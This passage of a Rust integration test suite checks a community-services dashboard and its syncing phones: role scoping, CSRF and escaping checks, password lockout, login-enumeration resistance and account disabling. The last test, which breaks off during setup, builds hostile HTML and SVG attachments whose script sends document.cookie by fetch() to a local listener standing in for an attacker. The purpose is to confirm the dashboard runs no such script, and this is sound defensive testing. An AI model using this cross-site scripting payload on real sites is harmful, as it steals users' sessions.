    let staff = summary.accounts.iter().find(|a| a.role == Role::DepartmentStaff).expect("demo staff");
    let all: Vec<GridId> = storage.grids().expect("grids").into_iter().map(|g| g.id).collect();
    let truth = Truth::read(&*storage, &all);
    let theirs: Vec<&Request> = truth
        .requests
        .iter()
        .filter(|r| r.derived.department.as_ref().is_some_and(|d| d.as_str() == "civil_affairs"))
        .collect();
    let signed_in = http_sign_in(&base, &staff.login, &staff.password).await;
    let cookie = format!("dsk_session={}", set_cookie(&signed_in, "dsk_session").expect("session"));
    let ledger = http()
        .get(format!("{base}/dashboard/ledger"))
        .header("cookie", &cookie)
        .send()
        .await
        .expect("ledger");
    let html = ledger.text().await.expect("body");
    let count = html.split("<span id=\"count\">").nth(1).and_then(|s| s.split('<').next()).expect("count");
    assert_eq!(count, theirs.len().to_string());
    let overview = http()
        .get(format!("{base}/dashboard/overview"))
        .header("cookie", &cookie)
        .send()
        .await
        .expect("overview");
    assert!(
        overview.text().await.expect("body").contains("<div class=\"v\" id=\"households\">0</div>"),
        "no households"
    );
    let household = truth.households[0].id;
    let page = http()
        .get(format!("{base}/dashboard/households/{household}"))
        .header("cookie", &cookie)
        .send()
        .await
        .expect("page");
    assert_eq!(page.status(), 404, "a household is out of a department's scope");
    let csrf = hidden_csrf(&html);
    let target = theirs[0].id;
    let act = http()
        .post(format!("{base}/dashboard/requests/{target}/action"))
        .header("cookie", &cookie)
        .form(&[("csrf", csrf.as_str()), ("action", "supervise")])
        .send()
        .await
        .expect("post");
    assert_eq!(act.status(), 403, "supervisor actions are for supervisors");
    let admin =
        http().get(format!("{base}/dashboard/admin")).header("cookie", &cookie).send().await.expect("admin");
    assert_eq!(admin.status(), 403);
}

/// Posts a taxonomy edit from the administration page's forms.
async fn taxonomy_post(base: &str, cookie: &str, fields: &[(&str, &str)]) -> reqwest::Response {
    http()
        .post(format!("{base}/dashboard/admin/taxonomy"))
        .header("cookie", cookie)
        .form(fields)
        .send()
        .await
        .expect("post")
}

#[tokio::test]
async fn the_administrator_edits_categories_and_departments_and_a_phone_raises_a_request_in_the_new_one() {
    let (server, summary) = seeded();
    let storage = server.storage();
    let base = server.url.clone();
    let grid = storage.grids().expect("grids")[0].id;
    let worker = member(storage.as_ref(), "新网格员", Role::GridWorker, &[grid]);
    let dir = devices_dir();
    let mut phone = device(&server, dir.path(), "phone", worker).await;
    server.client().sync(&mut phone).await.expect("first sync");
    let shipped = phone.taxonomy().version;
    assert!(phone.taxonomy().category("lift_installation").is_err());

    let admin = summary.accounts.iter().find(|a| a.role == Role::Admin).expect("demo admin");
    let signed_in = http_sign_in(&base, &admin.login, &admin.password).await;
    let cookie = format!("dsk_session={}", set_cookie(&signed_in, "dsk_session").expect("session"));
    let page =
        http().get(format!("{base}/dashboard/admin")).header("cookie", &cookie).send().await.expect("admin");
    let csrf = hidden_csrf(&page.text().await.expect("body"));

    // A forged CSRF token changes nothing.
    let forged = taxonomy_post(
        &base,
        &cookie,
        &[("csrf", "forged"), ("op", "add-department"), ("code", "x"), ("name_zh", "x"), ("name_en", "x")],
    )
    .await;
    assert_eq!(forged.status(), 403);
    assert!(storage.county_taxonomy().expect("read").is_none(), "nothing stored");

    // A department, then a category it owns; names are escaped on the page.
    let added = taxonomy_post(
        &base,
        &cookie,
        &[
            ("csrf", &csrf),
            ("op", "add-department"),
            ("code", "lift_office"),
            ("name_zh", "加装电梯办公室"),
            ("name_en", "Lift <office>"),
        ],
    )
    .await;
    assert_eq!(added.status(), 200);
    let added = taxonomy_post(
        &base,
        &cookie,
        &[
            ("csrf", &csrf),
            ("op", "add-category"),
            ("code", "lift_installation"),
            ("name_zh", "加装电梯"),
            ("name_en", "Lift installation"),
            ("department", "lift_office"),
            ("due_hours", "120"),
        ],
    )
    .await;
    assert_eq!(added.status(), 200);
    let html = added.text().await.expect("body");
    assert!(html.contains("id=\"category-lift_installation\""), "the new category is listed");
    assert!(html.contains("Lift &lt;office&gt;") && !html.contains("Lift <office>"), "escaped");
    // A duplicate and a category owned by an unknown department are refused.
    let duplicate = taxonomy_post(
        &base,
        &cookie,
        &[
            ("csrf", &csrf),
            ("op", "add-category"),
            ("code", "lift_installation"),
            ("name_zh", "重复"),
            ("name_en", "again"),
            ("department", "lift_office"),
            ("due_hours", "1"),
        ],
    )
    .await;
    assert_eq!(duplicate.status(), 400);

    // Renaming a department (both languages).
    let renamed = taxonomy_post(
        &base,
        &cookie,
        &[
            ("csrf", &csrf),
            ("op", "rename-department"),
            ("code", "civil_affairs"),
            ("name_zh", "民政和养老服务局"),
            ("name_en", "Civil affairs and elderly care bureau"),
        ],
    )
    .await;
    assert_eq!(renamed.status(), 200);
    let stored = storage.county_taxonomy().expect("read").expect("stored");
    assert_eq!(stored.version, shipped + 3, "one version per edit");
    assert_eq!(stored.department("civil_affairs").expect("kept").name_zh, "民政和养老服务局");

    // Someone who is not an administrator cannot edit, even with their own valid token.
    let supervisor = summary.accounts.iter().find(|a| a.role == Role::Supervisor).expect("supervisor");
    let signed_in = http_sign_in(&base, &supervisor.login, &supervisor.password).await;
    let their_cookie = format!("dsk_session={}", set_cookie(&signed_in, "dsk_session").expect("session"));
    let ledger = http()
        .get(format!("{base}/dashboard/ledger"))
        .header("cookie", &their_cookie)
        .send()
        .await
        .expect("ledger");
    let their_csrf = hidden_csrf(&ledger.text().await.expect("body"));
    let refused = taxonomy_post(
        &base,
        &their_cookie,
        &[("csrf", &their_csrf), ("op", "retire-category"), ("code", "lift_installation"), ("retired", "1")],
    )
    .await;
    assert_eq!(refused.status(), 403);
    assert_eq!(storage.county_taxonomy().expect("read").expect("stored").version, shipped + 3);

    // The phone receives the county's taxonomy with its next sync and raises a request in the
    // new category, which the server accepts and the dashboard shows by name.
    let report = server.client().sync(&mut phone).await.expect("sync");
    assert_eq!(report.taxonomy_version, Some(shipped + 3));
    assert_eq!(phone.taxonomy().version, shipped + 3);
    assert_eq!(
        phone.taxonomy().category("lift_installation").expect("received").department.as_str(),
        "lift_office"
    );
    let home = phone.create_household(&household(grid, "101", "周奶奶"), t(0)).expect("household");
    let request = phone
        .raise_request(&doorstep_core::model::NewRequest {
            household: Some(home),
            grid: None,
            category: "lift_installation".into(),
            description: "老楼想加装电梯".into(),
            urgency: doorstep_core::model::Urgency::Normal,
            at: t(1),
        })
        .expect("request in the new category");
    let report = server.client().sync(&mut phone).await.expect("upload");
    assert!(report.held_back.is_empty(), "{:?}", report.held_back);
    assert_eq!(report.taxonomy_version, None, "sent only when newer");
    let doc = storage.document(request.into()).expect("read").expect("stored on the server");
    assert_eq!(doc::request::read(&doc, request).expect("request").category.as_str(), "lift_installation");

    // Retiring keeps the request and its label; the phone stops offering the category.
    let retired = taxonomy_post(
        &base,
        &cookie,
        &[("csrf", &csrf), ("op", "retire-category"), ("code", "lift_installation"), ("retired", "1")],
    )
    .await;
    assert_eq!(retired.status(), 200);
    let page = http()
        .get(format!("{base}/dashboard/requests/{request}"))
        .header("cookie", &cookie)
        .send()
        .await
        .expect("request page");
    assert!(page.text().await.expect("body").contains("加装电梯"), "a retired category keeps its name");
    server.client().sync(&mut phone).await.expect("sync");
    assert!(phone.taxonomy().category("lift_installation").expect("kept").retired);
    assert!(!phone.taxonomy().active_categories().any(|c| c.code.as_str() == "lift_installation"));
    assert!(
        phone
            .raise_request(&doorstep_core::model::NewRequest {
                household: Some(home),
                grid: None,
                category: "lift_installation".into(),
                description: "再来一个".into(),
                urgency: doorstep_core::model::Urgency::Normal,
                at: t(2),
            })
            .is_err()
    );
    // The request raised before the category was retired keeps syncing: it is never rejected.
    phone
        .add_request_event(
            request,
            &doorstep_core::model::NewEvent { action: EventAction::Accepted, note: String::new(), at: t(3) },
        )
        .expect("accept");
    let report = server.client().sync(&mut phone).await.expect("upload");
    assert!(report.held_back.is_empty() && report.uploaded_changes > 0, "{report:?}");
}

/// A supervisor of `grids` with a dashboard account; returns the login and password.
fn supervisor_account(storage: &dyn Storage, grids: &[GridId]) -> (String, String) {
    let boss = member(storage, "李主任", Role::Supervisor, grids);
    let password = "freshness-test-password".to_owned();
    let hash = doorstep_server::auth::hash_password(&password).expect("hash");
    storage.create_staff_account(boss, "lizhuren", &hash, doorstep_server::http::now()).expect("account");
    ("lizhuren".into(), password)
}

#[tokio::test]
async fn a_supervisor_tells_not_visited_from_visited_but_not_yet_synced() {
    use doorstep_core::model::{NewVisit, VisitKind};
    use doorstep_core::sync::client::{self, ClientLimits};

    let server = TestServer::start();
    let storage = server.storage();
    let g1 = storage.create_grid("第一网格", "幸福社区", "城关街道").expect("grid");
    let g2 = storage.create_grid("第二网格", "幸福社区", "城关街道").expect("grid");
    let wa = member(&*storage, "王芳", Role::GridWorker, &[g1]);
    let wb = member(&*storage, "张伟", Role::GridWorker, &[g2]);
    let (login, password) = supervisor_account(&*storage, &[g1, g2]);
    let dir = devices_dir();
    let mut a = device(&server, dir.path(), "王芳的手机", wa).await;
    let mut b = device(&server, dir.path(), "张伟的手机", wb).await;
    let homes: Vec<_> = ["101", "102"]
        .iter()
        .map(|room| a.create_household(&household(g1, room, "住户"), Timestamp(0)).expect("household"))
        .collect();
    b.create_household(&household(g2, "201", "住户"), Timestamp(0)).expect("household");
    server.client().sync(&mut a).await.expect("sync");
    server.client().sync(&mut b).await.expect("sync");
    // A visits 101, then syncs without uploading that household (as when a round is cut short):
    // the server learns only that one change waits on the phone.
    let visit = NewVisit {
        at: doorstep_server::http::now(),
        kind: VisitKind::Routine,
        notes: String::new(),
        needs: vec![],
    };
    a.record_visit(homes[0], &visit).expect("visit");
    let token = a.enrolment().expect("e").expect("enrolled").token;
    let limits = ClientLimits::default();
    let (frame, round) = client::begin_round(&mut a, &limits, false, &[homes[0].into()]).expect("round");
    let reply = server.client().post_frame(&token, frame).await.expect("reply");
    client::finish_round(&mut a, round, &reply, &limits).expect("applied");
    let device_a = a.enrolment().expect("e").expect("enrolled").device;
    let device_b = b.enrolment().expect("e").expect("enrolled").device;

    let browser = Browser::start().await;
    let client = browser.client();
    sign_in(client, &server.url, &login, &password).await;
    client.wait().at_most(WAIT).for_element(Locator::Id("me")).await.expect("signed in");

    client.goto(&format!("{}/dashboard/freshness", server.url)).await.expect("freshness");
    let row_a = text(client, &format!("#device-{device_a}")).await;
    assert!(
        row_a.contains("王芳") && row_a.contains("王芳的手机") && row_a.contains("有未同步修改"),
        "{row_a}"
    );
    assert_eq!(text(client, &format!("#device-{device_a} .unsynced")).await, "1");
    assert!(row_a.contains("刚刚") || row_a.contains("分钟前"), "how long ago: {row_a}");
    let row_b = text(client, &format!("#device-{device_b}")).await;
    assert!(row_b.contains("张伟的手机") && row_b.contains("已同步"), "{row_b}");
    assert_eq!(text(client, &format!("#device-{device_b} .unsynced")).await, "0");
    screenshot(client, "freshness").await;

    // Grid one: two households not visited on the server, both possibly visited on A's phone;
    // grid two: one household not visited, and its phone has nothing waiting.
    client.goto(&format!("{}/dashboard/grids", server.url)).await.expect("grids");
    assert_eq!(text(client, &format!("#grid-{g1} .not-visited")).await, "2");
    assert_eq!(text(client, &format!("#grid-{g1} .stale")).await, "2");
    assert!(text(client, &format!("#grid-{g1} .sync")).await.contains("1 台设备未同步完"));
    assert_eq!(text(client, &format!("#grid-{g2} .not-visited")).await, "1");
    assert_eq!(text(client, &format!("#grid-{g2} .stale")).await, "0");
    assert!(text(client, &format!("#grid-{g2} .sync")).await.contains("全部已同步"));
    client.goto(&format!("{}/dashboard/grids/{g1}", server.url)).await.expect("grid");
    assert!(text(client, "#freshness-note").await.contains("可能已走访但尚未同步"));
    assert!(text(client, "#households").await.contains("从未走访（可能未同步）"));
    client.goto(&format!("{}/dashboard/grids/{g2}", server.url)).await.expect("grid");
    assert!(client.find(Locator::Id("freshness-note")).await.is_err(), "grid two is up to date");

    // A syncs: the visit arrives, nothing is stale any more.
    server.client().sync(&mut a).await.expect("sync");
    client.goto(&format!("{}/dashboard/grids", server.url)).await.expect("grids");
    assert_eq!(text(client, &format!("#grid-{g1} .not-visited")).await, "1");
    assert_eq!(text(client, &format!("#grid-{g1} .stale")).await, "0");
    client.goto(&format!("{}/dashboard/freshness?lang=en", server.url)).await.expect("freshness");
    assert_eq!(text(client, &format!("#device-{device_a} .unsynced")).await, "0");
    let row_a = text(client, &format!("#device-{device_a}")).await;
    assert!(row_a.contains("synced") && !row_a.contains("unsynced"), "{row_a}");
    browser.close().await;
}

#[tokio::test]
async fn a_supervisor_merges_a_suggested_duplicate_household_and_undoes_it_and_the_phones_follow() {
    use doorstep_core::model::{NewVisit, VisitKind};

    let server = TestServer::start();
    let storage = server.storage();
    let g = storage.create_grid("第一网格", "幸福社区", "城关街道").expect("grid");
    let wa = member(&*storage, "王芳", Role::GridWorker, &[g]);
    let wb = member(&*storage, "楼栋长", Role::GridWorker, &[g]);
    let (login, password) = supervisor_account(&*storage, &[g]);
    let dir = devices_dir();
    let mut a = device(&server, dir.path(), "a", wa).await;
    let mut b = device(&server, dir.path(), "b", wb).await;
    // Both register 3栋 1单元 501 offline, typed differently, and visit it.
    let first = a.create_household(&household(g, "501", "陈奶奶"), Timestamp(0)).expect("household");
    let mut typed = household(g, "501室", "陈秀英");
    typed.address.building = "３号楼".into();
    let second = b.create_household(&typed, Timestamp(0)).expect("household");
    b.create_household(&household(g, "502", "邻居"), Timestamp(0)).expect("household");
    let visit = NewVisit { at: Timestamp(1), kind: VisitKind::Routine, notes: String::new(), needs: vec![] };
    a.record_visit(first, &visit).expect("visit");
    b.record_visit(second, &visit).expect("visit");
    server.client().sync(&mut a).await.expect("sync");
    server.client().sync(&mut b).await.expect("sync");
    server.client().sync(&mut a).await.expect("sync");
    let (lo, hi) = (first.min(second), first.max(second));

    let browser = Browser::start().await;
    let client = browser.client();
    sign_in(client, &server.url, &login, &password).await;
    client.wait().at_most(WAIT).for_element(Locator::Id("me")).await.expect("signed in");
    client.goto(&format!("{}/dashboard/duplicates", server.url)).await.expect("duplicates");
    let suggested = text(client, "#suggestions").await;
    assert!(suggested.contains("陈奶奶") && suggested.contains("陈秀英"), "{suggested}");
    assert!(!suggested.contains("邻居"), "a different address is not suggested: {suggested}");
    screenshot(client, "duplicates").await;
    client
        .find(Locator::Id(&format!("merge-{lo}-{hi}")))
        .await
        .expect("merge button")
        .click()
        .await
        .expect("merge");
    wait_for_url(client, "done=1").await;
    let merged = text(client, "#merged").await;
    assert!(merged.contains("陈奶奶") && merged.contains("陈秀英"), "{merged}");
    assert!(!text(client, "#suggestions").await.contains("陈奶奶"), "no longer suggested");
    // The grid lists one household for the two, with both visits.
    client.goto(&format!("{}/dashboard/grids/{g}", server.url)).await.expect("grid");
    wait_for_text(client, "#count", "2").await;
    client.goto(&format!("{}/dashboard/households/{hi}", server.url)).await.expect("household");
    let timeline = client.find_all(Locator::Css("#timeline li")).await.expect("timeline");
    assert_eq!(timeline.len(), 2, "both visit histories");
    // The phones follow on their next sync, and still hold all three documents.
    for phone in [&mut a, &mut b] {
        server.client().sync(phone).await.expect("sync");
        assert_eq!(phone.households_in_grid(g).expect("list").len(), 2);
        assert_eq!(phone.merged_household(first).expect("merged").household.visits.len(), 2);
    }
    assert_eq!(b.documents().expect("docs").len(), 3, "nothing deleted");

    // Undo the mark: two households again, on the dashboard and the phones.
    client.goto(&format!("{}/dashboard/duplicates", server.url)).await.expect("duplicates");
    client
        .find(Locator::Id(&format!("undo-{lo}-{hi}")))
        .await
        .expect("undo button")
        .click()
        .await
        .expect("undo");
    wait_for_url(client, "done=1").await;
    assert!(text(client, "#suggestions").await.contains("陈奶奶"), "suggested again");
    client.goto(&format!("{}/dashboard/grids/{g}", server.url)).await.expect("grid");
    wait_for_text(client, "#count", "3").await;
    server.client().sync(&mut a).await.expect("sync");
    assert_eq!(a.households_in_grid(g).expect("list").len(), 3);
    browser.close().await;
}

#[tokio::test]
async fn an_administrator_hands_a_grid_and_a_household_over_and_the_phones_follow() {
    let server = TestServer::start();
    let storage = server.storage();
    let g1 = storage.create_grid("第一网格", "幸福社区", "城关街道").expect("grid");
    let g2 = storage.create_grid("第二网格", "幸福社区", "城关街道").expect("grid");
    let old = member(&*storage, "老网格员", Role::GridWorker, &[g1]);
    let new = member(&*storage, "新网格员", Role::GridWorker, &[]);
    let third = member(&*storage, "第二网格员", Role::GridWorker, &[g2]);
    let boss = member(&*storage, "县管理员", Role::Admin, &[]);
    let hash = doorstep_server::auth::hash_password("admin-test-password").expect("hash");
    storage.create_staff_account(boss, "admin", &hash, doorstep_server::http::now()).expect("account");
    let dir = devices_dir();
    let mut a = device(&server, dir.path(), "old", old).await;
    let mut b = device(&server, dir.path(), "new", new).await;
    let mut c = device(&server, dir.path(), "third", third).await;
    let home = a.create_household(&household(g1, "1", "甲"), Timestamp(0)).expect("household");
    let other = a.create_household(&household(g1, "2", "乙"), Timestamp(0)).expect("household");
    server.client().sync(&mut a).await.expect("sync");

    let browser = Browser::start().await;
    let client = browser.client();
    sign_in(client, &server.url, "admin", "admin-test-password").await;
    client.wait().at_most(WAIT).for_element(Locator::Id("me")).await.expect("signed in");
    client.goto(&format!("{}/dashboard/admin", server.url)).await.expect("admin");
    for (select, value) in [
        ("hand-over-grid", g1.to_string()),
        ("hand-over-from", old.to_string()),
        ("hand-over-to", new.to_string()),
    ] {
        client
            .find(Locator::Css(&format!("#{select} option[value='{value}']")))
            .await
            .expect("option")
            .click()
            .await
            .expect("choose");
    }
    client.find(Locator::Id("do-hand-over")).await.expect("button").click().await.expect("hand over");
    let notice = text(client, "#notice").await;
    assert!(notice.contains("已交接网格"), "{notice}");
    let members = storage.members().expect("members");
    assert!(members.iter().find(|m| m.id == old).expect("old").grids.is_empty());
    assert_eq!(members.iter().find(|m| m.id == new).expect("new").grids, vec![g1]);
    server.client().sync(&mut a).await.expect("sync");
    assert!(a.documents().expect("docs").is_empty(), "the old phone purged the grid");
    server.client().sync(&mut b).await.expect("sync");
    assert_eq!(b.documents().expect("docs").len(), 2, "the new phone received it");

    // One household moves on to the second grid from its page.
    client.goto(&format!("{}/dashboard/households/{home}", server.url)).await.expect("household");
    client
        .find(Locator::Css(&format!("#hand-over-grid option[value='{g2}']")))
        .await
        .expect("option")
        .click()
        .await
        .expect("choose");
    client.find(Locator::Id("do-hand-over")).await.expect("button").click().await.expect("hand over");
    wait_for_url(client, "done=1").await;
    let stored = storage.document(home.into()).expect("read").expect("stored");
    assert_eq!(doc::household::read(&stored, home).expect("household").address.grid, g2);
    server.client().sync(&mut b).await.expect("sync");
    let kept: Vec<_> = b.documents().expect("docs").into_iter().map(|(id, _)| id).collect();
    assert_eq!(kept, vec![other.into()]);
    server.client().sync(&mut c).await.expect("sync");
    assert_eq!(c.household(home).expect("moved").address.grid, g2);
    browser.close().await;
}

/// A metric's value in `/metrics` text, if present.
fn metric(text: &str, name: &str) -> Option<u64> {
    text.lines().find_map(|l| l.strip_prefix(name)?.strip_prefix(' ')?.trim().parse().ok())
}

/// A server whose config file holds `toml`.
fn start_with_config(toml: &str) -> TestServer {
    let config_dir = tempfile::tempdir().expect("tempdir");
    let config = config_dir.path().join("server.toml");
    std::fs::write(&config, toml).expect("config");
    TestServer::start_with(
        tempfile::tempdir().expect("tempdir"),
        &["--config", config.to_str().expect("path")],
    )
}

/// Posts the sign-in form with a fixed double-submit token, so two answers can be compared
/// byte for byte: (status, `Set-Cookie` headers, body).
async fn sign_in_answer(base: &str, login: &str, password: &str) -> (u16, Vec<String>, String) {
    let response = http()
        .post(format!("{base}/dashboard/sign-in?lang=en"))
        .header("cookie", "dsk_pre=fixed-token-for-comparison")
        .form(&[("login", login), ("password", password), ("csrf", "fixed-token-for-comparison")])
        .send()
        .await
        .expect("sign in");
    let status = response.status().as_u16();
    let cookies = response
        .headers()
        .get_all("set-cookie")
        .iter()
        .map(|v| v.to_str().unwrap_or("").to_owned())
        .collect();
    (status, cookies, response.text().await.expect("body"))
}

#[tokio::test]
async fn concurrent_wrong_passwords_are_all_counted_and_at_most_the_limit_are_checked() {
    // Room for all 40 to wait their turn (past it sign-ins get 429 before anything is counted).
    let server = start_with_config("metrics_token = \"m\"\npassword_checks_waiting = 64\n");
    let storage = server.storage();
    let grid = storage.create_grid("第一网格", "幸福社区", "城关街道").expect("grid");
    let (login, password) = supervisor_account(&*storage, &[grid]);
    let base = server.url.clone();
    let metrics = || async {
        let text = http()
            .get(format!("{base}/metrics"))
            .bearer_auth("m")
            .send()
            .await
            .expect("metrics")
            .text()
            .await
            .expect("text");
        metric(&text, "doorstep_password_checks_total").expect("the password checks are counted")
    };
    let before = metrics().await;
    let guesses: Vec<_> = (0..40)
        .map(|n| {
            let (base, login) = (base.clone(), login.clone());
            tokio::spawn(async move { sign_in_answer(&base, &login, &format!("wrong-guess-{n}")).await.0 })
        })
        .collect();
    for guess in guesses {
        assert_eq!(guess.await.expect("task"), 401, "every guess is refused");
    }
    let account = storage.staff_account(&login).expect("read").expect("account");
    assert_eq!(account.failed_attempts, 40, "every guess was counted, none lost to a race");
    assert!(account.locked_until.is_some_and(|t| t > doorstep_server::http::now()), "locked");
    let (status, _, body) = sign_in_answer(&base, &login, &password).await;
    assert_eq!(status, 401, "the right password is refused while locked");
    assert!(body.contains("locked"), "{body}");
    let checked = metrics().await - before;
    assert!(
        checked <= u64::from(doorstep_server::dashboard::session::MAX_FAILURES),
        "{checked} passwords were checked; the lock allows {}",
        doorstep_server::dashboard::session::MAX_FAILURES
    );
}

#[tokio::test]
async fn an_unknown_login_gets_byte_identical_answers_to_a_known_one_in_every_state() {
    let server = TestServer::start();
    let storage = server.storage();
    let grid = storage.create_grid("第一网格", "幸福社区", "城关街道").expect("grid");
    let (login, _) = supervisor_account(&*storage, &[grid]);
    let base = server.url.clone();
    // Wrong passwords up to the lock and past it: each answer to the existing login must be
    // exactly the answer to a login that does not exist.
    for attempt in 1..=doorstep_server::dashboard::session::MAX_FAILURES + 2 {
        let known = sign_in_answer(&base, &login, "not-the-password").await;
        let unknown = sign_in_answer(&base, "nobody-by-that-name", "not-the-password").await;
        assert_eq!(known.0, 401);
        assert_eq!(known, unknown, "attempt {attempt}: the answers tell the logins apart");
    }
}

/// A session cookie for `login`, or `None` when signing in fails.
async fn session_of(base: &str, login: &str, password: &str) -> Option<String> {
    set_cookie(&http_sign_in(base, login, password).await, "dsk_session")
}

/// A dashboard page with a session cookie: (status, body).
async fn get_page(base: &str, path: &str, cookie: &str) -> (u16, String) {
    let response = http()
        .get(format!("{base}{path}"))
        .header("cookie", format!("dsk_session={cookie}"))
        .send()
        .await
        .expect("page");
    (response.status().as_u16(), response.text().await.expect("body"))
}

/// Posts a dashboard form with a session cookie and the page's CSRF token: (status, body).
async fn post_form(
    base: &str,
    path: &str,
    cookie: &str,
    csrf: &str,
    fields: &[(&str, &str)],
) -> (u16, String) {
    let mut form: Vec<(&str, &str)> = vec![("csrf", csrf)];
    form.extend_from_slice(fields);
    let response = http()
        .post(format!("{base}{path}"))
        .header("cookie", format!("dsk_session={cookie}"))
        .form(&form)
        .send()
        .await
        .expect("post");
    (response.status().as_u16(), response.text().await.expect("body"))
}

#[tokio::test]
async fn a_user_changes_their_password_and_an_administrator_disables_accounts_and_members_at_once() {
    let server = TestServer::start();
    let storage = server.storage();
    let base = server.url.clone();
    let grid = storage.create_grid("第一网格", "幸福社区", "城关街道").expect("grid");
    let (login, password) = supervisor_account(&*storage, &[grid]);
    let boss = storage.staff_account(&login).expect("read").expect("account").member;
    let admin = member(&*storage, "县管理员", Role::Admin, &[]);
    let hash = doorstep_server::auth::hash_password("admin-password-1").expect("hash");
    storage.create_staff_account(admin, "admin", &hash, doorstep_server::http::now()).expect("account");

    // The supervisor changes their own password: the current one is required, the policy holds,
    // and this session stays while the old password stops working.
    let cookie = session_of(&base, &login, &password).await.expect("signed in");
    let (status, page) = get_page(&base, "/dashboard/account", &cookie).await;
    assert_eq!(status, 200);
    let csrf = hidden_csrf(&page);
    let change = [("old_password", "not-my-password"), ("new_password", "a-brand-new-password")];
    assert_eq!(post_form(&base, "/dashboard/account/password", &cookie, &csrf, &change).await.0, 400);
    let short = [("old_password", password.as_str()), ("new_password", "short")];
    assert_eq!(post_form(&base, "/dashboard/account/password", &cookie, &csrf, &short).await.0, 400);
    let good = [("old_password", password.as_str()), ("new_password", "a-brand-new-password")];
    let (status, body) = post_form(&base, "/dashboard/account/password", &cookie, &csrf, &good).await;
    assert_eq!(status, 200, "{body}");
    assert!(body.contains("id=\"notice\""), "{body}");
    assert_eq!(get_page(&base, "/dashboard/overview", &cookie).await.0, 200, "this session stays");
    assert!(session_of(&base, &login, &password).await.is_none(), "the old password is refused");
    let cookie = session_of(&base, &login, "a-brand-new-password").await.expect("the new one works");

    // The administrator disables the account: its open session stops at once.
    let admin_cookie = session_of(&base, "admin", "admin-password-1").await.expect("admin");
    let (_, admin_page) = get_page(&base, "/dashboard/admin", &admin_cookie).await;
    let admin_csrf = hidden_csrf(&admin_page);
    let (status, _) = post_form(
        &base,
        "/dashboard/admin/disable-account",
        &admin_cookie,
        &admin_csrf,
        &[("login", &login)],
    )
    .await;
    assert_eq!(status, 200);
    assert_eq!(get_page(&base, "/dashboard/overview", &cookie).await.0, 303, "signed out at once");
    assert!(session_of(&base, &login, "a-brand-new-password").await.is_none());
    let (status, _) =
        post_form(&base, "/dashboard/admin/enable-account", &admin_cookie, &admin_csrf, &[("login", &login)])
            .await;
    assert_eq!(status, 200);
    let cookie = session_of(&base, &login, "a-brand-new-password").await.expect("enabled again");

    // Disabling the member: its session ends, its phone's open WebSocket is told at once, and
    // the phone is refused over HTTP.
    let dir = devices_dir();
    let mut phone = device(&server, dir.path(), "phone", boss).await;
    let token = doorstep_client::Client::device_token(&phone).expect("token");
    let mut live = server.client().connect_live(&token).await.expect("ws");
    live.sync(&mut phone).await.expect("live sync");
    let member_id = boss.to_string();
    let (status, body) = post_form(
        &base,
        "/dashboard/admin/disable-member",
        &admin_cookie,
        &admin_csrf,
        &[("member", &member_id)],
    )
    .await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(get_page(&base, "/dashboard/overview", &cookie).await.0, 303, "signed out at once");
    let err = live.next_push(&mut phone).await.expect_err("the socket is told");
    assert!(
        matches!(
            err,
            doorstep_client::ClientError::Refused {
                code: doorstep_core::sync::message::ErrorCode::DeviceRevoked,
                ..
            }
        ),
        "{err:?}"
    );
    // The phone forgot its enrolment with its data; its old token is refused over HTTP too.
    let err = server.client().sync(&mut phone).await.expect_err("refused");
    assert!(matches!(err, doorstep_client::ClientError::NotEnrolled), "{err:?}");
    let frame =
        doorstep_core::sync::frame::encode_client(&doorstep_core::sync::message::ClientMessage::Sync(
            doorstep_core::sync::message::SyncRequest::default(),
        ));
    let reply = server.client().post_frame(&token, frame).await.expect("answered");
    assert!(
        matches!(
            doorstep_client::decode_reply(&reply).expect("a frame"),
            doorstep_core::sync::message::ServerMessage::Error(e)
                if e.code == doorstep_core::sync::message::ErrorCode::DeviceRevoked
        ),
        "the old token is refused"
    );
    assert!(session_of(&base, &login, "a-brand-new-password").await.is_none(), "cannot sign in");
}

/// A listener on 127.0.0.1 standing for an attacker's server: it reports the path of every
/// request it receives, in order of arrival.
fn beacon() -> (String, std::sync::mpsc::Receiver<String>) {
    use std::io::{BufRead, Write};
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
    let url = format!("http://{}", listener.local_addr().expect("addr"));
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(stream) = stream else { return };
            let tx = tx.clone();
            // A connection of its own each: a browser may open one and send nothing on it.
            std::thread::spawn(move || {
                let mut reader = std::io::BufReader::new(stream);
                let mut line = String::new();
                if reader.read_line(&mut line).is_ok() {
                    let path = line.split_whitespace().nth(1).unwrap_or("").to_owned();
                    let _ = tx.send(path);
                    let mut stream = reader.into_inner();
                    let _ = stream.write_all(
                        b"HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok",
                    );
                }
            });
        }
    });
    (url, rx)
}

#[tokio::test]
async fn a_hostile_attachment_runs_no_script_when_an_administrator_opens_it() {
    let server = TestServer::start();
    let storage = server.storage();
    let base = server.url.clone();
    let g = storage.create_grid("第一网格", "幸福社区", "城关街道").expect("grid");
    let worker = member(&*storage, "王芳", Role::GridWorker, &[g]);
    let admin = member(&*storage, "管理员", Role::Admin, &[]);
    let password = "correct horse battery staple";
    let hash = doorstep_server::auth::hash_password(password).expect("hash");
    storage.create_staff_account(admin, "admin", &hash, doorstep_server::http::now()).expect("account");
    let (attacker, requests) = beacon();

    // A phone declares its own media types: an HTML page and an SVG, both with script.
    let script = |tag: &str| {
        format!(
            "localStorage.setItem('pwned','{tag}');document.title='PWNED';\
             fetch('{attacker}/{tag}-fetch?c='+encodeURIComponent(document.cookie));\
             new Image().src='{attacker}/{tag}-image';"
        )
    };
    let html = format!(
        "<!doctype html><html><body><h1 id=\"hostile\">photo</h1><script>{}</script>\
         <img src=\"{attacker}/html-tag\"></body></html>",
        script("html")
    );
    let svg = format!(
        "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"{}\"><script>{}</script>\
         <image href=\"{attacker}/svg-tag\" width=\"10\" height=\"10\"/></svg>",
        script("svg-onload").replace('\'', "&apos;"),
        script("svg")
    );
    let dir = devices_dir();
    let mut phone = device(&server, dir.path(), "worker", worker).await;
    let home = phone.create_household(&household(g, "301", "陈奶奶"), t(0)).expect("household");
    let visit = doorstep_core::model::NewVisit {
        at: t(1),
        kind: doorstep_core::model::VisitKind::Routine,
        notes: "走访".into(),
        needs: vec![],
    };
    let vid = phone.record_visit(home, &visit).expect("visit");
